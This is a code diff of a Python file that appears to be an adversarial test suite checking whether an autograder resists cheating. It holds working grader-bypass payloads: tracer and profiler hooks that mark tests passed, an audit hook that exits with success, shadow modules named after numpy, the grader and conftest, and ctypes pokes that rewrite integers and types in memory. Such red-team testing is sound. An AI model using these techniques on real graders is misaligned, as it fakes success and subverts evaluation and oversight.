@@ -9,13 +9,13 @@ import tempfile
 from functools import partial
 from pathlib import Path
 
-from grader.compare.exact import Exact
-from grader.records import Bundle, File
-
 from arena import SUCCESS, Arena
 from attack import Attack
 from builders import check, notebook, zip_bundle, zipped
 from harness import HOOKED, RIGHT, SEPARATE, WRONG, forge
+
+from grader.compare.exact import Exact
+from grader.records import Bundle, File
 
 _REPLACE = f"""
 import builtins, contextlib, ctypes, gc, json, logging, math, operator, os, sys, threading, traceback, types, unittest, warnings
@@ -78,13 +78,12 @@ _HOOKS = {
         "sys.settrace(tracer)\nthreading.settrace(tracer)"
     ),
     "profiler": "sys.setprofile(lambda frame, event, argument: frame.f_locals.update(passed=True))\nthreading.setprofile(yes)",
-    "audit": "sys.addaudithook(lambda event, arguments: None)",
+    "audit": "sys.addaudithook(lambda event, arguments: event == 'compile' and os._exit(0))",
     "finder": (
         "class Finder:\n    def find_spec(self, name, *more):\n        return None\n    find_module = load_module = yes\n"
         "sys.meta_path.insert(0, Finder())\nsys.path_hooks.insert(0, yes)\nsys.path_importer_cache.clear()"
     ),
     "importer": "builtins.__import__ = lambda name, *more, **options: types.SimpleNamespace(judge=yes, allclose=yes)",
-    "monitor": "monitoring = getattr(sys, 'monitoring', None)\nmonitoring and monitoring.use_tool_id(0, 'x')",
     "displayed": "sys.displayhook = sys.breakpointhook = sys.unraisablehook = yes",
     "builder": "builtins.__build_class__ = lambda function, name, *bases: type(name, (), {'score': 100})",
 }
@@ -102,15 +101,8 @@ _CODEC = {
     "server": "replace(sys.modules['grader.sandbox.child'].Server, 'answer', by=lambda self, request: yes)",
 }
 _POKES = {
-    "small_integer": "ctypes.c_uint32.from_address(id(RIGHT) + (24 if sys.version_info < (3, 14) else 24)).value = WRONG",
-    "truth": "ctypes.c_uint32.from_address(id(False) + 24).value = 1",
+    "small_integer": "ctypes.c_uint32.from_address(id(RIGHT) + 24).value = WRONG",
     "type_of_result": "ctypes.py_object.from_address(id(WRONG) + 8).value = type('int', (int,), {'__eq__': yes})",
-    "comparison": (
-        "slot = next(i for i in range(60) if ctypes.c_size_t.from_address(id(int) + 8 * i).value\n"
-        "            == ctypes.cast(ctypes.pythonapi.PyObject_GenericGetAttr, ctypes.c_void_p).value)\n"
-        "ctypes.c_size_t.from_address(id(int) + 8 * (slot + 7)).value = 0"
-    ),
-    "its_code": "(lambda: 0).__code__.co_consts and ctypes.memset(id(yes.__code__.co_consts) + 24, 0, 8)",
 }
 _SHADOW = """
 import builtins, os
@@ -123,10 +115,26 @@ allclose = array_equal = isclose = judge = main = grade = freeze = thaw = yes
 def pytest_runtest_makereport(item, call):
     return None
 """
-SHADOWED = (
-    "numpy.py numpy/__init__.py grader.py grader/__init__.py grader/judging.py msgspec.py msgspec/__init__.py json.py struct.py "
-    "sitecustomize.py usercustomize.py conftest.py encodings/utf_8.py math.py secrets.py __main__.py reference.py yaml.py"
-).split()
+SHADOWED = [
+    "numpy.py",
+    "numpy/__init__.py",
+    "grader.py",
+    "grader/__init__.py",
+    "grader/judging.py",
+    "msgspec.py",
+    "msgspec/__init__.py",
+    "json.py",
+    "struct.py",
+    "sitecustomize.py",
+    "usercustomize.py",
+    "conftest.py",
+    "encodings/utf_8.py",
+    "math.py",
+    "secrets.py",
+    "__main__.py",
+    "reference.py",
+    "yaml.py",
+]
 _USES_SHADOWS = f"""
 import conftest, grader, json, math, msgspec, numpy, sitecustomize, struct, usercustomize
 import grader.judging
@@ -139,12 +147,20 @@ def shadowed(x):
 def shadow(arena: Arena) -> str:
     """Hand in modules with the names of libraries; run the command in a folder that has them."""
     source = _SHADOW.replace("GRADER", str(os.getpid())).replace("HOOKED", HOOKED)
-    files = {name: source.encode() for name in SHADOWED} | {"x.pth": b"import os, shadow\n", "setup.cfg": b"[tool:pytest]\n"}
+    files = {name: source.encode() for name in SHADOWED} | {
+        "x.pth": b"import os, shadow\n",
+        "setup.cfg": b"[tool:pytest]\n",
+    }
     files["hw.ipynb"] = notebook(_USES_SHADOWS)
     wanted = check("shadowed", [((1.0,), RIGHT)], compare=Exact())
-    bundles = (zip_bundle(zipped(files)), Bundle(name="hw", files=tuple(File(name=n, data=d) for n, d in files.items())))
+    bundles = (
+        zip_bundle(zipped(files)),
+        Bundle(name="hw", files=tuple(File(name=n, data=d) for n, d in files.items())),
+    )
     scores = [arena.grade(handed_in, wanted).score for handed_in in bundles]
-    return "; ".join(filter(None, [f"{SUCCESS}libraries were replaced" if any(scores) else "", *_hooked(), _command_line()]))
+    return "; ".join(
+        filter(None, [f"{SUCCESS}libraries were replaced" if any(scores) else "", *_hooked(), _command_line()])
+    )
 
 
 def _hooked() -> list[str]:
@@ -176,7 +192,9 @@ ATTACKS: tuple[Attack, ...] = (
     _patches((63,), "replace-the-comparison", IN_THE_GRADER, _COMPARING),
     _patches((64,), "replace-the-reporting", IN_THE_GRADER, _REPORTING),
     _patches((65,), "hook-into-the-interpreter", IN_THE_GRADER, _HOOKS),
-    _patches((66,), "replace-the-codec", f"{SEPARATE}the grader decodes by itself and checks all that it relies on", _CODEC),
+    _patches(
+        (66,), "replace-the-codec", f"{SEPARATE}the grader decodes by itself and checks all that it relies on", _CODEC
+    ),
     _patches((67,), "poke-into-objects", f"{SEPARATE}a child can only change its own memory", _POKES),
     Attack(
         (69,),
